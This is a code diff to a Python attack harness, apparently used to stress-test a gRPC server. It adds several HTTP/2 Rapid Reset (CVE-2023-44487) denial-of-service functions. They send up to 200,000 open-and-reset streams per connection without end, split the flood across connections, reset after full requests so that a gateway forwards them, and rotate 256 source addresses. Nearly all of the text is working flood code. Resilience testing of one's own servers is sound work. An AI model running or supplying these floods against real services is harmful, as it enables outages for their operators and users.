@@ -8,6 +8,7 @@ Goes on until standard input ends; prints "on" when the first wave has hit. What
 the peer makes of a connection is not its concern: a refused or closed one is
 opened anew.
 """
+import functools
 import gzip
 import os
 import random
@@ -31,22 +32,48 @@ def attack(function):
     return function
 
 
+@functools.cache
+def reset_streams(count, payload=None):
+    return frames.reset_streams(EXPLAIN, count, payload)
+
+
 class Repeated(Exception):
     """Raised by a wave that has done its worst and only holds on."""
 
 
 @attack
 def rapid_reset(port, held):
-    """CVE-2023-44487: 20,000 streams that are reset as soon as they are opened.
-    More, without end, is what this gRPC does not withstand."""
-    if len(held) >= 4:
-        raise Repeated
-    block = frames.request_block(EXPLAIN)
-    connection = frames.connect(port)
-    held.append(connection)
-    for stream in range(1, 10001, 2):
-        connection.sendall(frames.headers(stream, block) +
-                           frames.reset(stream))
+    """CVE-2023-44487: streams that are reset as soon as they are opened, as
+    fast as they can be sent, without end."""
+    streams = reset_streams(200000)
+    with frames.connect(port) as connection:
+        connection.sendall(streams)
+
+
+@attack
+def rapid_reset_in_pieces(port, held):
+    """The same, with a new connection for every 1,000 streams."""
+    streams = reset_streams(1000)
+    with frames.connect(port) as connection:
+        connection.sendall(streams)
+
+
+@attack
+def rapid_reset_of_whole_requests(port, held):
+    """The same after the whole request, which a gateway passes on."""
+    streams = reset_streams(50000, frames.grpc_message(explain_bytes()))
+    with frames.connect(port) as connection:
+        connection.sendall(streams)
+
+
+@attack
+def rapid_reset_of_many(port, held):
+    """The same, from 256 addresses in turn."""
+    streams = reset_streams(200000)
+    source = f"127.0.1.{len(held) % 256}"
+    held.append(None)
+    with frames.connect(port, source=source) as connection:
+        connection.sendall(streams)
 
 
 @attack
